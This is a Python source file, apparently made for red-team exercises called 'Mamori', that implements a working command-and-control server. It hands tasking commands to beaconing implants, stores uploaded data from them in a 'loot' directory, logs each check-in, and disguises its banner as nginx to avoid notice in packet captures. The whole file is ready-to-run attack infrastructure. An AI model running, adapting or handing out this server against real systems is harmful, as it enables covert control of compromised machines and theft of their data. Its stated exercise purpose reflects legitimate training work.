#!/usr/bin/env python3
"""A minimal C2 server for Mamori exercises (Python standard library only).

Every request becomes one line of the beacon log:

    2025-06-01T03:04:05.123456Z 172.20.0.3 POST /beacon?id=ws01 ua="curl/7.88.1" bytes=42

GET/POST /beacon  answers with the tasking (the file named by --tasking, else "sleep 30").
POST /upload      stores the body under the loot directory, named
                  <UTC time>_<client>[_<name>] where name is ?name=... or X-Filename.
Any request whose body is larger than --max-upload (10 MB) is refused with 413, unread.
"""
from __future__ import annotations

import argparse
import json
import re
import sys
import threading
from datetime import datetime, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

DEFAULT_TASKING = "sleep 30\n"
SAFE_NAME = re.compile(r"[^\w.-]+")  # \w: letters of any script, digits, "_"


class C2Handler(BaseHTTPRequestHandler):
    # Looks like an ordinary web server to someone reading a packet capture.
    server_version = "nginx"
    sys_version = ""
    protocol_version = "HTTP/1.1"
    server: C2Server

    def _handle(self) -> None:
        path = urlsplit(self.path).path
        length = self._content_length()
        if length is None:
            self._log(0)
            self._reply(400, "bad content-length\n")
            return
        if length > self.server.max_upload:
            self._log(length)
            self.close_connection = True
            self._reply(413, f"too large (limit {self.server.max_upload} bytes)\n")
            return
        body = self.rfile.read(length) if length else b""
        self._log(len(body))
        if path == "/upload" and self.command in ("POST", "PUT"):
            name = self._store(body)
            self._reply(200, f"ok {len(body)} {name}\n")
        elif path == "/beacon" and self.command in ("GET", "POST", "HEAD"):
            self._reply(200, self.server.tasking())
        else:
            self._reply(404, "not found\n")

    do_GET = do_POST = do_PUT = do_HEAD = do_DELETE = do_OPTIONS = do_PATCH = _handle

    def _store(self, body: bytes) -> str:
        """Keep an upload in the loot directory; the client's name only as a suffix."""
        stamp = datetime.now(timezone.utc).strftime("%Y%m%dT%H%M%S.%fZ")
        name = f"{stamp}_{self.client_address[0]}"
        given = parse_qs(urlsplit(self.path).query).get("name", [""])[0]
        if not given:
            # http.server decodes headers as Latin-1; clients send UTF-8 names.
            raw = self.headers.get("X-Filename", "")
            given = raw.encode("latin-1", "replace").decode("utf-8", "replace")
        given = SAFE_NAME.sub("_", given).strip("._")[:100]
        if given:
            name += f"_{given}"
        (self.server.loot_dir / name).write_bytes(body)
        return name

    def _content_length(self) -> int | None:
        value = self.headers.get("Content-Length", "0")
        try:
            length = int(value)
        except ValueError:
            return None
        return length if length >= 0 else None

    def _log(self, size: int) -> None:
        now = datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        agent = json.dumps(self.headers.get("User-Agent", ""), ensure_ascii=False)
        path = "".join(c if c.isprintable() else "?" for c in self.path)
        line = f"{now} {self.client_address[0]} {self.command} {path} ua={agent} bytes={size}\n"
        self.server.write_log(line)

    def _reply(self, status: int, text: str) -> None:
        data = text.encode()
        self.send_response(status)
        self.send_header("Content-Type", "text/plain; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    def log_message(self, format: str, *args: object) -> None:
        """Requests go to the beacon log; only errors reach stderr."""

    def log_error(self, format: str, *args: object) -> None:
        sys.stderr.write(f"{self.client_address[0]} {format % args}\n")


class C2Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64

    def __init__(self, address: tuple[str, int], options: argparse.Namespace) -> None:
        super().__init__(address, C2Handler)
        self.log_path = Path(options.log)
        self.loot_dir = Path(options.loot)
        self.tasking_path = Path(options.tasking)
        self.max_upload = options.max_upload
        self._lock = threading.Lock()
        self.log_path.parent.mkdir(parents=True, exist_ok=True)
        self.loot_dir.mkdir(parents=True, exist_ok=True)

    def write_log(self, line: str) -> None:
        with self._lock, self.log_path.open("a", encoding="utf-8") as log:
            log.write(line)

    def tasking(self) -> str:
        try:
            return self.tasking_path.read_text(encoding="utf-8")
        except OSError:
            return DEFAULT_TASKING


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--bind", default="0.0.0.0")
    parser.add_argument("--port", type=int, default=8080)
    parser.add_argument("--log", default="/var/log/c2/beacons.log")
    parser.add_argument("--loot", default="/var/lib/c2/loot")
    parser.add_argument("--tasking", default="/etc/c2/tasking.txt")
    parser.add_argument("--max-upload", type=int, default=10 * 1024 * 1024)
    options = parser.parse_args()
    server = C2Server((options.bind, options.port), options)
    print(f"c2 listening on {options.bind}:{options.port}", flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
